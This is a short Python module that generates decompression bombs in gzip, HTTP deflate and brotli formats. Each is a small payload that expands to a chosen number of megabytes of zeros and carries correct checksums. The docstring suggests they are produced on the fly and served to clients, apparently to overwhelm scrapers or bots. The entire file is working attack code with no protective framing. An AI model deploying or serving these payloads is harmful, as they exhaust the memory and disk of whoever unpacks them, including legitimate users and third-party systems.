"""Small bodies that unpack to very much, made in little time and memory: they are made while others are served.

A packer that is told to forget what it had gives the same bytes for each further megabyte of zeros, so that one is
packed and the rest repeated; the check sums at the end are true.
"""

import struct
import zlib
from collections.abc import Callable

import brotli

MEGABYTE = 1_000_000
ZEROS = bytes(MEGABYTE)


def gzip_bomb(megabytes: int) -> bytes:
    """Return gzip (RFC 1952) of so many megabytes of zeros."""
    head = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"
    sums = struct.pack("<II", _sum(zlib.crc32, 0, megabytes), megabytes * MEGABYTE % 2**32)
    return head + _blocks(megabytes) + sums


def deflate_bomb(megabytes: int) -> bytes:
    """Return zlib's format (RFC 1950), which HTTP calls deflate, of so many megabytes of zeros."""
    return b"\x78\xda" + _blocks(megabytes) + struct.pack(">I", _sum(zlib.adler32, 1, megabytes))


def brotli_bomb(megabytes: int) -> bytes:
    """Return brotli (RFC 7932) of so many megabytes of zeros."""
    packer = brotli.Compressor(quality=4)
    return b"".join([*(packer.process(ZEROS) for _ in range(megabytes)), packer.finish()])


def _blocks(megabytes: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    each = packer.compress(ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
    return each * megabytes + packer.flush(zlib.Z_FINISH)


def _sum(add: Callable[[bytes, int], int], start: int, megabytes: int) -> int:
    total = start
    for _ in range(megabytes):
        total = add(ZEROS, total)
    return total
